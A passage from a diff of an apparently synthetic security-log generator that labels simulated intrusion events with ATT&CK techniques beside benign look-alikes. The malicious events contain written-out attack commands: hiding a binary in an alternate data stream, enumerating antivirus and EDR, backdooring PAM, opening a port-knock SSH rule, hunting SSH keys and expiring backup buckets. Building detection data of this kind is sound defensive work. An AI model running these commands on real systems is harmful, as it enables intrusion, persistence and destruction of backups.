+  "IpAddress": "127.0.0.1", "IpPort": "0", "WorkstationName": "RVM-LAP-1502"}, "logged-in", rec=40110), "cached-credential logon on a laptop offline on a train")
+B(S, nxlog(T(26, 8, 15, 0), "RVM-FS-01.rvm.internal", 4663, 3391002, {"SubjectUserName": "svc_veeam", "ObjectType": "File", "ObjectName": "D:\\Shares\\HR\\contracts\\2026\\offer-b.tanaka.pdf", "AccessMask": "0x20000", "ProcessName": "C:\\Program Files (x86)\\Veeam\\Backup Transport\\x64\\VeeamAgent.exe"},
+  "An attempt was made to access an object.", task=12800), "backup agent reading HR files for the nightly job")
+S = "windows-system"
+M(S, winxml(1074, "RVM-FS-01.rvm.internal", T(26, 1, 50, 0), {"param1": "C:\\Windows\\system32\\shutdown.exe (RVM-FS-01)", "param2": "RVM-FS-01", "param3": "No title for this reason could be found", "param4": "0x800000ff",
+  "param5": "restart", "param6": "", "param7": "RVM\\k.haddad"}, 41990, provider="User32", guid="{b0aa8734-56f7-41cc-b2f4-de228e98b946}", channel="System", task=0, kw="0x8080000000000000", level=4),
+  "T1529", "unplanned forced restart of the encrypted file server by the intruder account at 01:50")
+B(S, winxml(1074, "RVM-LAP-1502.rvm.internal", T(26, 18, 0, 0), {"param1": "C:\\Windows\\System32\\RuntimeBroker.exe (RVM-LAP-1502)", "param2": "RVM-LAP-1502", "param3": "Other (Unplanned)", "param4": "0x0",
+  "param5": "power off", "param6": "", "param7": "RVM\\i.kovacs"}, 40201, provider="User32", guid="{b0aa8734-56f7-41cc-b2f4-de228e98b946}", channel="System", task=0, kw="0x8080000000000000", level=4),
+  "user shutting down her laptop from the Start menu")
+S = "sysmon"
+M(S, sx(1, C2, T(26, 1, 0, 2, 1), proc(C2, None, 60, CMD, "cmd.exe /c type C:\\ProgramData\\Intel\\igfxtray.exe > \"C:\\Windows\\Tasks\\desktop.ini:svc.exe\" && wmic process call create \"C:\\Windows\\Tasks\\desktop.ini:svc.exe\"",
+  "RVM\\s.quinlan", PSH, "powershell.exe -w 1", orig="Cmd.Exe"), 620600), "T1564.004", "binary hidden in an alternate data stream of desktop.ini and started from it")
+M(S, sx(25, C2, T(26, 1, 2, 0, 5), {"ProcessGuid": guid(61), "ProcessId": "7120", "Image": "C:\\Windows\\System32\\dllhost.exe", "Type": "Image is replaced", "User": "RVM\\s.quinlan"}, 620601, task=25),
+  "T1055.012", "Sysmon process tampering: dllhost image replaced in memory - process hollowing")
+M(S, secs(C2, T(26, 1, 3, 0, 2), 62, "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe", "\"C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe\" /noconfig /fullpaths @\"C:\\Users\\s.quinlan\\AppData\\Local\\Temp\\k3vq0z1d.cmdline\"",
+  "RVM\\s.quinlan", PSH, "powershell.exe -w 1 -nop -c Add-Type -TypeDefinition ([IO.File]::ReadAllText('C:\\ProgramData\\Intel\\l.cs'))", orig="csc.exe"),
+  "T1027.004", "hidden PowerShell compiling C# source dropped in ProgramData - compile after delivery")
+M(S, secs(C3, T(26, 1, 40, 0, 2), 63, "C:\\Windows\\System32\\powercfg.exe", "powercfg.exe /change standby-timeout-ac 0 & powercfg /change hibernate-timeout-ac 0 & powercfg -h off",
+  "RVM\\k.haddad", CMD, "cmd /c", integrity="High", orig="PowerCfg.exe"), "T1653", "sleep and hibernation disabled just before encryption so the host stays up")
+B(S, sx(1, C4, T(26, 9, 0, 0, 1), proc(C4, None, 64, "C:\\Windows\\System32\\powercfg.exe", "powercfg /batteryreport /output C:\\Users\\w.lindqvist\\battery.html", "RVM\\w.lindqvist", CMD, "cmd.exe", orig="PowerCfg.exe"), 610500),
+  "user producing a battery report for the helpdesk")
+B(S, sx(1, C4, T(26, 9, 5, 0, 1), proc(C4, None, 65, "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe", "\"C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe\" /noconfig @\"C:\\Users\\adm-t.okonkwo\\source\\repos\\RvmTools\\obj\\Release\\csc.rsp\"",
+  "RVM\\adm-t.okonkwo", "C:\\Program Files\\Microsoft Visual Studio\\2022\\Professional\\MSBuild\\Current\\Bin\\MSBuild.exe", "MSBuild.exe RvmTools.sln /p:Configuration=Release", orig="csc.exe"), 610501),
+  "Visual Studio build compiling an internal tool from the user's repos folder")
+S = "powershell"
+M(S, sb(C2, T(26, 1, 5, 0), 90500, "Get-CimInstance -Namespace root/SecurityCenter2 -ClassName AntivirusProduct | select displayName,productState; Get-Process | ?{$_.Name -match 'csfalcon|sentinel|cb|MsMpEng|elastic'}",
+  "{3c2d4e5f-6a7b-4c8d-9e0f-1a2b3c4d5e60}", user_sid="S-1-5-21-3308419210-1822710947-255119034-5122", level=3),
+  "T1518.001", "enumerating installed antivirus and EDR processes")
+M(S, sb_ecs(C2, T(26, 1, 6, 0), "Get-ADDefaultDomainPasswordPolicy; Get-ADFineGrainedPasswordPolicy -Filter *; net accounts /domain", "{4d3e5f6a-7b8c-4d9e-8f0a-1b2c3d4e5f61}", "s.quinlan"),
+  "T1201", "domain password and lockout policy read before spraying")
+B(S, sb_ecs(C3, T(26, 9, 40, 0), "Get-ADDefaultDomainPasswordPolicy | Select MinPasswordLength,LockoutThreshold | Export-Csv \\\\rvm-fs-01\\audit$\\pwpolicy-2026-11.csv -NoTypeInformation", "{5e4f6a7b-8c9d-4e0f-9a1b-2c3d4e5f6a72}", "adm-t.okonkwo", level="verbose"),
+  "monthly audit export of the password policy by an admin to the audit share")
+S = "linux-syslog"
+M(S, r3164(T(26, 1, 10, 0), H3, "snoopy[7001]", "[uid:0 sid:6990 tty:(none) cwd:/tmp filename:/usr/bin/cp]: cp /tmp/.p/pam_unix.so /lib/x86_64-linux-gnu/security/pam_unix.so"),
+  "T1556.003", "pam_unix.so overwritten with a file from a hidden tmp dir - PAM backdoor")
+M(S, r3164(T(26, 1, 12, 0), H3, "knockd[702]", "80.94.95.14: openSSH: Stage 3"), "T1205.001", "port-knock sequence completed from an outside address on a knockd the team never deployed")
+M(S, r3164(T(26, 1, 12, 1), H3, "knockd[702]", "openSSH: running command: /sbin/iptables -I INPUT -s 80.94.95.14 -p tcp --dport 2222 -j ACCEPT"), "T1205.001", "knock opens the backdoor sshd port for the knocker")
+M(S, r3164(T(26, 1, 20, 0), "rvm-mon-01", "arpwatch", "changed ethernet address 10.212.40.1 52:54:00:9f:8e:7d (00:0c:29:4a:11:be) eth0"),
+  "T1557.002", "gateway address suddenly answering from a VMware MAC - ARP cache poisoning on the server VLAN")
+B(S, r3164(T(26, 9, 0, 0), "rvm-mon-01", "arpwatch", "new station 10.212.31.90 3c:22:fb:10:4e:9a eth0"), "new hire's laptop seen on the LAN")
+B(S, r5424(T(26, 9, 5, 0, 1), H3, "pam_systemd", 7500, "pam_unix(systemd-user:session): session opened for user b.tanaka(uid=1221) by (uid=0)"), "user manager session")
+B(S, jd(T(26, 9, 10, 0), H4, "apt-daily.service", "apt.systemd.daily", 7520, "update lists", comm="apt.systemd.dai"), "apt daily refresh")
+S = "linux-auth"
+M(S, au(T(26, 2, 0, 0), "rvm-coldstore-gw-04", "sshd[802]", "Accepted password for pi from 80.94.95.14 port 50212 ssh2"),
+  "T1078.001", "default 'pi' account of a cold-store sensor gateway logged into from the Internet")
+B(S, au(T(26, 9, 20, 0), "rvm-coldstore-gw-04", "sshd[830]", "Accepted publickey for iotops from 10.212.9.4 port 50801 ssh2: ED25519 SHA256:Gh7Jk8Lm9No0Pq1Rs2Tu3Vw4Xy5Za6Bc7De8Fg9Hi0Jk"), "IoT team managing the gateway by key")
+B(S, au(T(26, 9, 21, 0), "rvm-coldstore-gw-04", "usermod[840]", "lock user 'pi' password"), "IoT team locking the default account after the incident")
+S = "auditd"
+ex_pair(T(26, 1, 30, 0), ["find", "/home", "/root", "-name", "id_*", "-not", "-name", "*.pub"], "hunt for SSH private keys in home directories", "T1552.004", "/usr/bin/find", with_sc=False)
+ex_pair(T(26, 1, 31, 0), ["mkdir", "-p", "/var/tmp/. /.cache"], "directory named '. ' (dot-space) to hide tooling", "T1564.001", "/usr/bin/mkdir", with_sc=False)
+B(S, aud(T(26, 9, 30, 0), "USER_END", "pid=7100 uid=0 auid=1221 ses=40 subj=unconfined msg='op=PAM:session_close grantors=pam_unix acct=\"b.tanaka\" exe=\"/usr/sbin/sshd\" hostname=10.212.31.90 addr=10.212.31.90 terminal=ssh res=success'", "UID=\"root\" AUID=\"b.tanaka\""), "session end")
+S = "aws-cloudtrail"
+M(S, ct(T(26, 0, 10, 0), "CreateFunction20150331", "lambda.amazonaws.com", BAD, iam_user("aws-backup-svc", "AKIAEXAMPLENEWKEY777"),
+  {"functionName": "cw-log-shipper", "runtime": "python3.12", "role": f"arn:aws:iam::{ACCT}:role/OrganizationAccountAccessRole", "handler": "index.handler", "timeout": 900}),
+  "T1648", "Lambda created with the organisation admin role by the attacker's user - serverless execution with admin rights")
+M(S, ct(T(26, 0, 12, 0), "PutBucketLifecycle", "s3.amazonaws.com", BAD, iam_user("aws-backup-svc", "AKIAEXAMPLENEWKEY777"),
+  {"bucketName": "rvm-prod-backups", "LifecycleConfiguration": {"Rule": {"ID": "cleanup", "Status": "Enabled", "Filter": {"Prefix": ""}, "Expiration": {"Days": 1}, "NoncurrentVersionExpiration": {"NoncurrentDays": 1}}}}),
+  "T1485.001", "lifecycle rule expiring every object and version in the backup bucket after one day")
+B(S, ct(T(26, 9, 0, 0), "PutBucketLifecycle", "s3.amazonaws.com", "10.212.9.4", role("terraform-storage-admin", "tf-run-88201"),
+  {"bucketName": "rvm-etl-staging", "LifecycleConfiguration": {"Rule": {"ID": "expire-tmp", "Status": "Enabled", "Filter": {"Prefix": "tmp/"}, "Expiration": {"Days": 7}}}}, ua="APN/1.0 HashiCorp/1.0 Terraform/1.9.8 terraform-provider-aws/5.80.0"),
+  "Terraform expiring only the tmp/ prefix of the staging bucket after seven days")
+B(S, ct(T(26, 9, 5, 0), "UpdateFunctionCode20150331v2", "lambda.amazonaws.com", "10.212.9.20", role("github-actions-deploy", "gha-edi-512"), {"functionName": "edi-asn-parser", "publish": True},
+  ua="aws-sdk-js/3.701.0 ua/2.1 os/linux lang/js md/nodejs#20.18.1"), "CI deploying a new version of an internal Lambda")
+S = "firewall"
+M(S, cp(T(26, 1, 15, 0), action="Accept", src="10.212.31.88", dst="91.240.118.60", proto="6", s_port="53110", service="587", product="Application Control", appi_name="SMTP", app_category="Email", rule_name="Users-outbound-any", bytes="88120331"),
+  "T1071.003", "workstation speaking SMTP submission straight to an external host, 88 MB - mail protocol used for C2/exfil")
+B(S, cp(T(26, 9, 15, 0), action="Accept", src="10.212.40.80", dst="52.101.68.12", proto="6", s_port="50112", service="25", product="Application Control", appi_name="SMTP", app_category="Email", rule_name="MailRelay-to-EXO"),
+  "the mail relay delivering to Exchange Online")
+S = "vpn"
+M(S, pulse(T(26, 0, 30, 0), "ADM22670", "Login succeeded for admin/Admin Users from 146.70.87.19.", user="admin", realm="Admin Users", ip="146.70.87.19"),
+  "T1078.001", "appliance's built-in 'admin' account logging into the admin realm from the exploit source")
+S = "okta"
+M(S, okta(T(26, 0, 40, 0), "user.session.access_admin_app", "b.ostrowski@ravenmoor.eu", "77.91.124.55", targets=[tgt("AppInstance", "Okta Admin Console")], geo=("Frankfurt", "DE"), asn=("Aeza", "210644")),
+  "T1538", "hijacked account browsing the Okta admin console from the VPS")
+B(S, okta(T(26, 9, 0, 0), "user.session.access_admin_app", "adm-t.okonkwo@ravenmoor.eu", "86.131.44.144", targets=[tgt("AppInstance", "Okta Admin Console")]), "a known admin opening the admin console from the office")
+S = "web-access"
+B(S, ngx(T(26, 9, 0, 0), "86.131.44.90", "GET /tms/shipments/export.csv?from=2026-11-01&to=2026-11-26 HTTP/2.0", 200, 1202211, ref="https://tms.ravenmoor.eu/tms/reports", ua=CH, rt="1.204", host="tms.ravenmoor.eu"),
+  "staff exporting a monthly CSV report")
+S = "kubernetes-audit"
+B(S, k8(T(26, 9, 0, 0), "get", ADM, ADMG, "secrets", ns="tms-staging", name="tms-web-tls", ips=("10.212.31.77",)), "SRE checking a staging certificate secret")
 def main():
     order = []
     for o in OUT:
